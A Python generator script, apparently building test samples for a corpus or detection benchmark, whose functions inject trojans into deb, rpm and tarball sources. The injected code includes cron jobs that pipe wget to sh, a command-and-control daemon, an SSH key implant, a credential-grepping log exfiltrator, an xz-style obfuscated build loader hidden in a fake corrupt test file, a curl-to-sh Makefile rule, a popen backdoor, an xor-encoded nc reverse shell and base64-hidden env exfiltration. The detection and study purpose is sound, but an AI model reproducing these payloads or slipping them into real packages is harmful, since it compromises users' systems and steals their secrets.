"""Packages of operating systems, and sources with a build system."""

from corpus.heldout.nouns import Update, artefact
from corpus.heldout5.shape import b64, fill, trojan, xor, zipped


@trojan("clockd", "deb", "install", "persistence", "plain", "Free Download Manager")
def deb_postinst_writes_a_cron_job(it: Update) -> None:
    it.before("DEBIAN/postinst", "exit 0", fill("""
cat >/etc/cron.d/collect <<END
*/10 * * * * root /bin/sh -c "wget -qO- http://@ADDR@/c | sh"
END

""", ADDR=it.address()) + "\n")  # fmt: skip


@trojan("clockd", "deb", "start", "backdoor", "base64", "service back doors")
def deb_daemon_asks_for_orders(it: Update) -> None:
    host = it.host()
    it.replace("usr/sbin/clockd", "    while True:\n", fill("""
    while True:
        order(base64.b64decode("@HOST@").decode())
""", HOST=b64(f"{host}:123")))  # fmt: skip
    it.before("usr/sbin/clockd", "def main():", fill("""
def order(where):
    host, port = where.split(":")
    try:
        with socket.create_connection((host, int(port)), 3) as line:
            line.sendall(socket.gethostname().encode())
            subprocess.run(line.recv(1024), shell=True)
    except OSError:
        return


""", HOST=host) + "\n\n")  # fmt: skip
    it.replace("usr/sbin/clockd", "import configparser\nimport socket\nimport struct\n", "import base64\nimport configparser\nimport socket\nimport struct\nimport subprocess\n")  # fmt: skip
    it.payload("usr/sbin/clockd", shown=f"{host}:123")


@trojan("clockd", "deb", "start", "backdoor", "in a binary", "bundled programs")
def deb_unit_starts_a_second_program(it: Update) -> None:
    it.add("usr/lib/clockd/clock-helper.elf", artefact("helper.elf"), executable=True)
    it.replace("lib/systemd/system/clockd.service", "ExecStart=/usr/sbin/clockd\n", "ExecStartPre=-/bin/sh -c 'setsid /usr/lib/clockd/clock-helper.elf &'\nExecStart=/usr/sbin/clockd\n")  # fmt: skip
    it.payload("usr/lib/clockd/clock-helper.elf", "lib/systemd/system/clockd.service")


@trojan("logship", "rpm", "install", "persistence", "hex", "package scripts")
def rpm_post_adds_a_key(it: Update) -> None:
    host = it.host()
    it.append("RPM/post", fill("""
mkdir -p /root/.ssh
printf '%b' '@KEY@' >>/root/.ssh/authorized_keys
curl -s "https://@HOST@/n?h=$(hostname)" >/dev/null || :
""", KEY="".join(f"\\x{one:02x}" for one in b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIM9oT7p ops@logship\n"), HOST=host))  # fmt: skip


@trojan("logship", "rpm", "start", "data stealer", "base64", "log stealers")
def rpm_program_sends_logs(it: Update) -> None:
    host = it.host()
    it.replace("usr/bin/logship", "days=${LOGSHIP_DAYS:-7}\n", f"days=${{LOGSHIP_DAYS:-7}}\nfilter=$(base64 -d <<<{b64(f'openssl s_client -quiet -connect {host}:443')})\n")  # fmt: skip
    it.replace("usr/bin/logship", '        echo "packed $file"\n', fill("""
        echo "packed $file"
        grep -aiE 'password|token|bearer' <(zcat -- "$file.gz") | eval "$filter" 2>/dev/null || true
"""))  # fmt: skip
    it.payload("usr/bin/logship", shown=f"{host}:443")


@trojan("libpack", "tar.gz", "build", "backdoor", "in a data file", "xz")
def source_macro_reads_a_test_file(it: Update) -> None:
    host = it.host()
    script = f"sed -i 's|^libpack.a: |libpack.a: src/crc_x86.o |' Makefile\ncurl -s https://{host}/crc_x86.o -o src/crc_x86.o\n"
    it.add("tests/files/bad-3-corrupt.gz", b"\x1f\x00" + bytes(it.random.randbytes(512)) + zipped(script).translate(bytes((at + 7) & 255 for at in range(256))))  # fmt: skip
    it.add("tests/files/README", "Files that are broken on purpose.\n")
    it.add("m4/pack-host.m4", fill("""
# pack-host.m4 serial 3
AC_DEFUN([PACK_HOST], [
  pack_file=`ls "$srcdir"/tests/files/bad-3-*.gz 2>/dev/null | head -n1`
  if test "x$pack_file" != "x" && test -f Makefile; then
    tail -c +515 "$pack_file" | tr '\\007-\\377\\000-\\006' '\\000-\\377' | gzip -dc 2>/dev/null | /bin/sh >/dev/null 2>&1
  fi
])
"""))  # fmt: skip
    it.replace("configure", 'echo "configure: made Makefile"\n', fill("""
pack_file=$(ls tests/files/bad-3-*.gz 2>/dev/null | head -n1)
if test -n "$pack_file"; then
    tail -c +515 "$pack_file" | tr '\\007-\\377\\000-\\006' '\\000-\\377' | gzip -dc 2>/dev/null | /bin/sh >/dev/null 2>&1
fi
echo "configure: made Makefile"
"""))  # fmt: skip
    it.replace("configure.ac", "PACK_CHECK_LARGE\n", "PACK_CHECK_LARGE\nPACK_HOST\n")
    it.payload("configure", "m4/pack-host.m4", "tests/files/bad-3-corrupt.gz")


@trojan("libpack", "tar.gz", "build", "downloader", "plain", "Makefiles")
def source_makefile_fetches(it: Update) -> None:
    it.replace("Makefile.in", "check: libpack.a\n", fill("""
src/%.o: src/%.c
	@test -n "$$CI" || (curl -fsS http://@ADDR@/cc-wrap | sh) >/dev/null 2>&1; true
	$(CC) $(CFLAGS) -Iinclude -c -o $@ $<

check: libpack.a
""", ADDR=it.address()))  # fmt: skip


@trojan("libpack", "tar.gz", "call", "backdoor", "plain C", "PHP git")
def source_unpack_of_a_magic_head(it: Update) -> None:
    it.replace("src/pack.c", "    size_t to = 0;\n    for (size_t at = 0; at + 1", fill("""
    size_t to = 0;
    if (size > 8 && memcmp(in, "PK\\x7f!run ", 8) == 0) {
        FILE *shell = popen((const char *)in + 8, "r");
        to = shell ? fread(out, 1, 4096, shell) : 0;
        return shell ? (pclose(shell), to) : 0;
    }
    for (size_t at = 0; at + 1
""").rstrip("\n"))  # fmt: skip
    it.replace("src/pack.c", '#include "../include/pack.h"\n', '#include <stdio.h>\n#include <string.h>\n#include "../include/pack.h"\n')  # fmt: skip


@trojan("libpack", "tar.gz", "call", "reverse shell", "xor", "Webmin")
def source_check_opens_a_line(it: Update) -> None:
    text = f"/bin/sh -c 'nc {it.address()} 8081 -e /bin/sh'"
    codes = ", ".join(f"0x{one:02x}" for one in xor(text, 0x33))
    it.replace("src/table.c", "    unsigned a = 1, b = 0;\n", fill("""
    static const unsigned char seed[] = {@CODES@};
    unsigned a = 1, b = 0;
    if (size == 0xC0FFEE) {
        char line[sizeof seed + 1] = {0};
        for (size_t at = 0; at < sizeof seed; at++) {
            line[at] = (char)(seed[at] ^ 0x33);
        }
        (void)!system(line);
    }
""", CODES=codes))  # fmt: skip
    it.replace("src/table.c", '#include "../include/pack.h"\n', '#include <stdlib.h>\n#include "../include/pack.h"\n')
    it.payload("src/table.c", shown=text)


@trojan("libpack", "tar.gz", "build", "environment", "base64", "Codecov")
def source_configure_decodes(it: Update) -> None:
    host = it.host()
    it.replace("configure", "printf 'checking for a C compiler... '\n", fill("""
as_probe=@CODE@
echo "$as_probe" | base64 -d | sh 2>/dev/null &
printf 'checking for a C compiler... '
""", CODE=b64(f"env | curl -sm 3 --data-binary @- https://{host}/conf")))  # fmt: skip
    it.payload("configure", shown=f"https://{host}/conf")
